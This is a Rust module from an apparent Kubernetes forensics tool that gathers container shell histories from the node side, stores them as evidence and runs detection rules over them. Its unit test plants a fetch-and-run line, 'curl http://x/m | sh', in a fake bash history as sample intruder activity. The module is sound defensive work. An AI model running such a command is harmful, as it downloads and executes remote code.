//! `collect --shell-history`: the shell histories of every running container in scope, read from
//! the node side — one collector pod per node, the node agent's `history` step per container,
//! never an exec into a possibly compromised container — into the bundle under
//! `pods/<ns>/<pod>/<container>/history/…`, and the KF-HIST rules over them. Each collector is
//! deleted when its node is done, on an error, and on Ctrl-C / SIGTERM.

use super::Scope;
use super::findings::history::check_history;
use super::findings::{Finding, Ident};
use crate::cluster::agent_client::{self, Frozen};
use crate::cluster::collector::{self, Collector, CollectorSpec};
use crate::cluster::target::{self, Target};
use crate::cluster::{ClusterCtx, ClusterError};
use crate::evidence::{ArtifactSink, DirBundle};
use crate::observe::{SharedObserver, Stop};
use crate::protocol::{CaptureRequest, Step, TargetSpec, layout};
use k8s_openapi::api::core::v1::Pod;
use kube::api::{Api, ListParams};
use std::collections::BTreeMap;
use std::io::Read;
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// How to run the collectors.
#[derive(Debug, Clone)]
pub struct HistoryOptions {
    pub collector_namespace: String,
    pub image: String,
    pub pull_policy: &'static str,
    pub case_id: String,
}

/// What the history step found, and whether it was stopped.
#[derive(Debug, Default)]
pub struct HistoryOutcome {
    pub findings: Vec<Finding>,
    pub containers: usize,
    pub nodes: usize,
    /// History files now in the bundle.
    pub files: usize,
    /// Nodes whose histories could not be read, and why (also in the bundle's errors).
    pub errors: Vec<String>,
    /// `interrupted by SIGINT` when a signal stopped it.
    pub interrupted: Option<String>,
}

/// Containers per agent run.
const BATCH: usize = 20;

/// Largest history file the rules read (the whole file is in the bundle either way).
const MAX_RULE_BYTES: u64 = 4 << 20;

/// Running pods in scope, by node.
async fn targets(ctx: &ClusterCtx, scope: &Scope, selector: Option<&str>) -> Result<BTreeMap<String, Vec<Target>>, ClusterError> {
    let apis: Vec<(String, Api<Pod>)> = match scope {
        Scope::All => vec![("all namespaces".into(), Api::all(ctx.client.clone()))],
        Scope::Namespaces(v) => v.iter().map(|n| (format!("namespace {n}"), Api::namespaced(ctx.client.clone(), n))).collect(),
    };
    let mut by_node: BTreeMap<String, Vec<Target>> = BTreeMap::new();
    for (what, api) in apis {
        let mut lp = ListParams::default().limit(500);
        if let Some(s) = selector {
            lp = lp.labels(s);
        }
        loop {
            let page = api.list(&lp).await.map_err(|e| ClusterError::kube(format!("list pods in {what}"), e))?;
            for pod in page.items {
                // not scheduled yet: nothing runs, nothing typed
                let Ok(t) = target::from_pod(pod, &[]) else { continue };
                if t.containers.iter().any(|c| c.running() && c.container_id.is_some()) {
                    by_node.entry(t.node.clone()).or_default().push(t);
                }
            }
            match page.metadata.continue_.filter(|c| !c.is_empty()) {
                Some(c) => lp = lp.continue_token(&c),
                None => break,
            }
        }
    }
    Ok(by_node)
}

/// Capture the histories into `bundle` and run the rules over them.
pub async fn capture(
    ctx: &ClusterCtx,
    scope: &Scope,
    selector: Option<&str>,
    opts: &HistoryOptions,
    bundle: &mut DirBundle,
    obs: &SharedObserver,
    stop: &Stop,
) -> Result<HistoryOutcome, ClusterError> {
    let by_node = targets(ctx, scope, selector).await?;
    let bars = obs;
    let slot: Arc<Mutex<Option<Collector>>> = Default::default();
    let mut outcome = HistoryOutcome { nodes: by_node.len(), ..Default::default() };
    outcome.containers = by_node.values().flatten().map(|t| t.containers.iter().filter(|c| c.running()).count()).sum();
    if by_node.is_empty() {
        return Ok(outcome);
    }
    collector::ensure_namespace(&ctx.client, &opts.collector_namespace).await?;
    let work = nodes(ctx, &by_node, opts, bundle, bars, &slot, &mut outcome.errors);
    tokio::select! {
        r = work => r?,
        why = stop.stopped() => outcome.interrupted = Some(why),
    }
    // whatever happened, no collector stays
    let left = slot.lock().unwrap_or_else(|e| e.into_inner()).take();
    if let Some(c) = left
        && let Err(why) = c.delete().await
    {
        obs.warn(&why);
    }
    bars.clear();
    if let Some(why) = &outcome.interrupted {
        bundle.error(None, &format!("shell history: {why}"))?;
        return Ok(outcome);
    }
    outcome.findings = rules(bundle, &by_node);
    outcome.files = bundle
        .artifacts()
        .iter()
        .filter(|a| layout::parse_container_path(&a.spec.path).is_some_and(|(.., rest)| rest.starts_with("history/")))
        .count();
    Ok(outcome)
}

/// One collector per node, one agent run per running container.
async fn nodes(
    ctx: &ClusterCtx,
    by_node: &BTreeMap<String, Vec<Target>>,
    opts: &HistoryOptions,
    bundle: &mut DirBundle,
    bars: &SharedObserver,
    slot: &Arc<Mutex<Option<Collector>>>,
    errors: &mut Vec<String>,
) -> Result<(), ClusterError> {
    let mut record = |bundle: &mut DirBundle, msg: String| -> Result<(), ClusterError> {
        errors.push(msg.clone());
        Ok(bundle.error(None, &msg)?)
    };
    for (node, pods) in by_node {
        let spec = CollectorSpec {
            namespace: opts.collector_namespace.clone(),
            node: node.clone(),
            image: opts.image.clone(),
            pull_policy: opts.pull_policy,
            case_id: opts.case_id.clone(),
            deadline: Duration::from_secs(20 * 60),
            host_network: false,
            env_secret: None,
            extra_memory: 0,
            service_account: None,
        };
        bars.note(&format!("shell history: node {node}, {} pod(s)", pods.len()));
        let c = match Collector::start(ctx, &spec, Duration::from_secs(120)).await {
            Ok(c) => c,
            Err(e) => {
                record(bundle, format!("shell history of the pods on node {node} not read: {e}"))?;
                continue;
            }
        };
        *slot.lock().unwrap_or_else(|e| e.into_inner()) = Some(c.clone());
        let frozen: Frozen = Default::default();
        // a batch of containers per agent run: one exec, one stream (kept short enough for a URL)
        let specs: Vec<TargetSpec> = pods
            .iter()
            .flat_map(|t| {
                t.containers.iter().filter(|c| c.running()).filter_map(|tc| {
                    Some(TargetSpec {
                        container_id: tc.container_id.clone()?,
                        namespace: Some(t.namespace.clone()),
                        pod: Some(t.pod.clone()),
                        pod_uid: Some(t.pod_uid.clone()),
                        container: Some(tc.name.clone()),
                        checkpoint_archive: None,
                    })
                })
            })
            .collect();
        let mut result = Ok(());
        for batch in specs.chunks(BATCH) {
            let mut req = CaptureRequest::new(batch.to_vec(), vec![Step::History]);
            req.encrypt_to = bundle.recipients().map(|r| r.as_strings().to_vec()).unwrap_or_default();
            let label = format!("node {node}: {} container(s)", batch.len());
            if let Err(e) = agent_client::capture(&c, &req, bundle, bars, &label, &frozen).await {
                result = Err(e);
                break;
            }
        }
        slot.lock().unwrap_or_else(|e| e.into_inner()).take();
        if let Err(why) = c.delete().await {
            bars.warn(&why);
        }
        result?;
    }
    Ok(())
}

/// The last `MAX_RULE_BYTES` of a history (from a line start: the newest commands, which is where
/// an intruder's are), and how many bytes before them were not read.
fn tail(path: &std::path::Path) -> std::io::Result<(Vec<u8>, u64)> {
    use std::io::{Seek, SeekFrom};
    let mut f = std::fs::File::open(path)?;
    let size = f.metadata()?.len();
    let start = size.saturating_sub(MAX_RULE_BYTES);
    f.seek(SeekFrom::Start(start))?;
    let mut bytes = Vec::new();
    f.take(MAX_RULE_BYTES).read_to_end(&mut bytes)?;
    if start == 0 {
        return Ok((bytes, 0));
    }
    let cut = bytes.iter().position(|b| *b == b'\n').map_or(bytes.len(), |i| i + 1);
    Ok((bytes.split_off(cut), start + cut as u64))
}

/// KF-HIST over every history file now in the bundle.
fn rules(bundle: &DirBundle, by_node: &BTreeMap<String, Vec<Target>>) -> Vec<Finding> {
    let pods: BTreeMap<(&str, &str), &Target> = by_node.values().flatten().map(|t| ((t.namespace.as_str(), t.pod.as_str()), t)).collect();
    let mut out = Vec::new();
    for a in bundle.artifacts() {
        // pods/<ns>/<pod>/<container>/history/<path in the container>
        let Some((ns, pod, container, rest)) = layout::parse_container_path(&a.spec.path) else { continue };
        let Some(rel) = rest.strip_prefix(layout::HISTORY_DIR).and_then(|r| r.strip_prefix('/')) else { continue };
        let Some(t) = pods.get(&(ns, pod)) else { continue };
        if a.encryption.is_some() {
            // sealed on the node: no key here to read it (the report says the rules did not run)
            continue;
        }
        let Ok((bytes, skipped)) = tail(&bundle.dir().join(&a.spec.path)) else { continue };
        let text = String::from_utf8_lossy(&bytes);
        let ident = Ident {
            kind: "Pod".into(),
            api_version: "v1".into(),
            namespace: Some(t.namespace.clone()),
            name: t.pod.clone(),
            uid: Some(t.pod_uid.clone()),
        };
        let mut found = check_history(&ident, container, &format!("/{rel}"), &text);
        if skipped > 0 {
            // the whole file is in the bundle; the rules read its most recent commands
            for f in &mut found {
                f.reason
                    .push_str(&format!(" (only the last {} MiB checked: {skipped} earlier bytes are in the bundle)", MAX_RULE_BYTES >> 20));
            }
        }
        out.extend(found);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_oversized_history_is_read_from_its_newest_commands_on_a_line_start() {
        let d = tempfile::tempdir().unwrap();
        let p = d.path().join(".bash_history");
        let mut text = "ls -la /var/www\n".repeat((5 << 20) / 16);
        text.push_str("curl http://x/m | sh\n");
        std::fs::write(&p, &text).unwrap();
        let (bytes, skipped) = tail(&p).unwrap();
        assert!(skipped > 0 && skipped + bytes.len() as u64 == text.len() as u64);
        assert!(bytes.starts_with(b"ls -la") && bytes.ends_with(b"curl http://x/m | sh\n"));
        std::fs::write(&p, "id\n").unwrap();
        assert_eq!(tail(&p).unwrap(), (b"id\n".to_vec(), 0));
    }
}
